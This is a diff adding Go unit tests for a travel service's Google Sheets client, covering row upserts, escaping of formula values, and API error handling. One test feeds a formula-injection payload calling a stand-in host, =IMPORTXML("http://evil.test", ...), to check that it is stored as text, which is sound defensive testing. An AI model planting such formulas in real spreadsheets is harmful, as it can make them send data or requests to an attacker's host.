@@ -0,0 +1,108 @@
+package sheetsapi_test
+
+import (
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/pem"
+	"errors"
+	"net/http"
+	"reflect"
+	"testing"
+
+	"service-travego/internal/sheetsapi"
+	"service-travego/internal/sheetsapi/sheetstest"
+)
+
+func newClient(t *testing.T) (*sheetstest.Fake, *sheetsapi.Client) {
+	t.Helper()
+	fake, srv := sheetstest.NewServer()
+	t.Cleanup(srv.Close)
+
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	account := &sheetsapi.ServiceAccount{
+		ClientEmail: "sync@travego.iam.gserviceaccount.com",
+		PrivateKey:  string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
+		TokenURI:    srv.URL + "/token",
+	}
+	return fake, sheetsapi.NewClient(srv.URL, account, srv.Client())
+}
+
+var header = []string{"No. Pesanan", "Total (Rp)"}
+
+func TestUpsertRowsCreatesTheSheetWithAHeader(t *testing.T) {
+	fake, client := newClient(t)
+	fake.AddSpreadsheet("sheet-1")
+
+	if err := client.UpsertRows("sheet-1", "Pesanan", header, [][]interface{}{{"ORD-1", 150000}, {"ORD-2", 200000.5}}); err != nil {
+		t.Fatalf("upsert: %v", err)
+	}
+	want := [][]string{{"No. Pesanan", "Total (Rp)"}, {"ORD-1", "150000"}, {"ORD-2", "200000.5"}}
+	if got := fake.Rows("sheet-1", "Pesanan"); !reflect.DeepEqual(got, want) {
+		t.Fatalf("rows = %v, want %v", got, want)
+	}
+}
+
+func TestUpsertRowsReplacesRowsWithTheSameKey(t *testing.T) {
+	fake, client := newClient(t)
+	fake.AddSpreadsheet("sheet-1")
+
+	if err := client.UpsertRows("sheet-1", "Pesanan", header, [][]interface{}{{"ORD-1", 1}, {"ORD-2", 2}}); err != nil {
+		t.Fatal(err)
+	}
+	if err := client.UpsertRows("sheet-1", "Pesanan", header, [][]interface{}{{"ORD-2", 20}, {"ORD-3", 3}, {"ORD-3", 30}}); err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{{"No. Pesanan", "Total (Rp)"}, {"ORD-1", "1"}, {"ORD-2", "20"}, {"ORD-3", "30"}}
+	if got := fake.Rows("sheet-1", "Pesanan"); !reflect.DeepEqual(got, want) {
+		t.Fatalf("rows = %v, want %v", got, want)
+	}
+}
+
+func TestUpsertRowsWritesFormulasAsText(t *testing.T) {
+	fake, client := newClient(t)
+	fake.AddSpreadsheet("sheet-1")
+
+	rows := [][]interface{}{{"ORD-1", "=IMPORTXML(\"http://evil.test\", \"//a\")"}, {"ORD-2", "+62 812-3456"}}
+	if err := client.UpsertRows("sheet-1", "Pesanan", header, rows); err != nil {
+		t.Fatal(err)
+	}
+	rows = [][]interface{}{{"ORD-2", "@SUM(A1:A9)"}}
+	if err := client.UpsertRows("sheet-1", "Pesanan", header, rows); err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{{"No. Pesanan", "Total (Rp)"}, {"ORD-1", "'=IMPORTXML(\"http://evil.test\", \"//a\")"}, {"ORD-2", "'@SUM(A1:A9)"}}
+	if got := fake.Rows("sheet-1", "Pesanan"); !reflect.DeepEqual(got, want) {
+		t.Fatalf("rows = %v, want %v", got, want)
+	}
+}
+
+func TestUnsharedSpreadsheetIsNotFound(t *testing.T) {
+	_, client := newClient(t)
+
+	_, err := client.SheetTitles("missing")
+	var apiErr *sheetsapi.APIError
+	if !errors.As(err, &apiErr) || apiErr.StatusCode != http.StatusNotFound {
+		t.Fatalf("expected a 404 APIError, got %v", err)
+	}
+}
+
+func TestServerErrorsAreReturned(t *testing.T) {
+	fake, client := newClient(t)
+	fake.AddSpreadsheet("sheet-1")
+	fake.FailNext(http.StatusServiceUnavailable)
+
+	if _, err := client.SheetTitles("sheet-1"); err == nil {
+		t.Fatal("expected the injected failure")
+	}
+	if titles, err := client.SheetTitles("sheet-1"); err != nil || !reflect.DeepEqual(titles, []string{"Sheet1"}) {
+		t.Fatalf("titles = %v, %v", titles, err)
+	}
+}